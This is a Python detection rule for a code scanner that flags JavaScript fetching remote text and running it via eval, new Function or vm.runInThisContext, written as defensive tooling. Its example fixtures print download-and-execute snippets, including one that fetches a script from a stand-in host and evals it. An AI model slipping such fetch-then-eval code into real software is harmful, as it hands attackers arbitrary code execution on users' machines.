# ruff: noqa: E501 (examples on the card and patterns of words read best as one line)
"""Answer of the network that a script runs as code.

## Why it matters
A program that fetches text and evaluates it does whatever the other side sends, today this and tomorrow that, with all rights of its user. It
is how packages that look harmless in review load their second half.

## What to do
1. Put the code into the package, where it is reviewed and its hash is known.
2. Fetch data, as JSON, and let code of your own act on it.
3. If it came in unasked, look for what was sent, and rotate what the machine held.

## Known limits
The answer must be evaluated in the statement that names it, or by the constructor of functions with `require` as its parameter;
what goes through further variables is left to the rules on code injection. Scripts of pages and minified files are passed over.

## References
- https://attack.mitre.org/techniques/T1105/
- https://owasp.org/www-project-mcp-top-10/
- https://cwe.mitre.org/data/definitions/494.html
"""

from __future__ import annotations

from collections.abc import Iterator

from sentinel.detectors.code_injection._calls import is_code
from sentinel.detectors.supply_chain._launching import HIGH
from sentinel.model.document import Document, Language, Role
from sentinel.model.expression import expression
from sentinel.model.rule import Confidence, Example, Hit, Item, Match, Pattern, Severity, rule

_SCRIPTS = (Language.JAVASCRIPT, Language.TYPESCRIPT, Language.TSX)
_FETCHES = expression(
    rb"\bfetch\s*\(|\baxios\b|\bgot\s*\(|\bneedle\b|\bnode-fetch\b|\bhttps?\.(?:get|request)\s*\(|\brequire\(\s*['\"](?:request|https?|axios|got|undici)['\"]"
)
_AROUND = 4_000
"""Bytes before the place in which something must be fetched."""
_RUN = rb"\b(?:eval|new\s{1,3}Function|(?:vm\.)?runIn(?:This|New)Context)\s{0,2}\(\s{0,40}"


@rule(
    "supply-chain/fetched-code-execution",
    on=Item.DOCUMENT,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=494,
    cvss=HIGH,
    owasp=("MCP04:2025", "LLM03:2025", "ASI04:2026"),
    languages=_SCRIPTS,
    patterns=(
        Pattern(_RUN + rb"\({0,1}await\s{1,3}(?:\(\s{0,2}await\s{1,3}(?:fetch|axios|got)\b|[\w$.]{1,40}\.text\(\))"),
        Pattern(_RUN + rb"(?:res|resp|response|r|reply|answer|result|body|payload|data)\.(?:data|body|text)\b"),
        Pattern(rb"\.then\(\s{0,40}\({0,1}\s{0,2}(?P<name>[A-Za-z_$][\w$]{0,30})\s{0,2}\){0,1}\s{0,2}=>\s{0,40}(?:eval|new\s{1,3}Function)\(\s{0,4}(?P<same>[A-Za-z_$][\w$]{0,30})\b"),
        Pattern(rb"\bFunction\.constructor\s{0,2}\(\s{0,40}['\"]require['\"]\s{0,2},\s{0,40}[A-Za-z_$]"),
        Pattern(rb"\bnew\s{1,3}Function\s{0,2}\(\s{0,40}['\"]require['\"]\s{0,2},\s{0,40}[A-Za-z_$]"),
    ),
    bad=(
        Example('const r = await fetch("https://in.example.net/u.js");\neval(await r.text());\n', (2,), "a.js"),
        Example('fetch(URL)\n  .then((r) => r.text())\n  .then((code) => eval(code));\n', (3,), "a.js"),
        Example('const axios = require("axios");\nconst s = (await axios.get(URL)).data.cookie;\nconst run = new Function.constructor("require", s);\nrun(require);\n', (3,), "a.js"),
        Example('const axios = require("axios");\naxios.get(URL).then((res) => {\n  eval(res.data);\n});\n', (3,), "a.ts"),
        Example('import got from "got";\nvm.runInThisContext(await (await fetch(URL)).text());\n', (2,), "a.mjs"),
    ),
    good=(
        Example('const r = await fetch(URL);\nconst data = await r.json();\n', path="a.js"),
        Example('fetch(URL).then((r) => r.text()).then((code) => show(code));\n', path="a.js"),
        Example('const f = new Function("a", "b", "return a + b");\n', path="a.js"),
        Example('// eval(await r.text()) is what an attacker writes after fetch(URL)\n', path="a.js"),
        Example('const text = "eval(await r.text()) after fetch(URL)";\n', path="a.js"),
        Example('eval(response.text);\n', path="a.js"),
        Example('const value = JSON.parse(await (await fetch(URL)).text());\n', path="a.ts"),
        Example('await fetch(URL);\nevaluate(await r.text());\n', path="a.ts"),
        Example('fetch(URL).then((r) => render(r.data));\n', path="a.tsx"),
        Example('const run = new Function("module", source);\n', path="a.js"),
    ),
)  # fmt: skip
def check(document: Document, hit: Hit) -> Iterator[Match]:
    """An answer that is evaluated, in a file that fetches before."""
    if document.has_role(Role.MINIFIED, Role.VENDORED) or not is_code(document, hit.start):
        return
    if hit.pattern == _CHAINED and hit.group("name") != hit.group("same"):
        return
    if _FETCHES.search(document.data, max(0, hit.start - _AROUND), hit.end + 40) is None:
        return
    yield Match(document.span(hit.start, hit.end), "What the network answers is run as code.")


_CHAINED = 2
"""Index of the pattern for a chain of promises."""
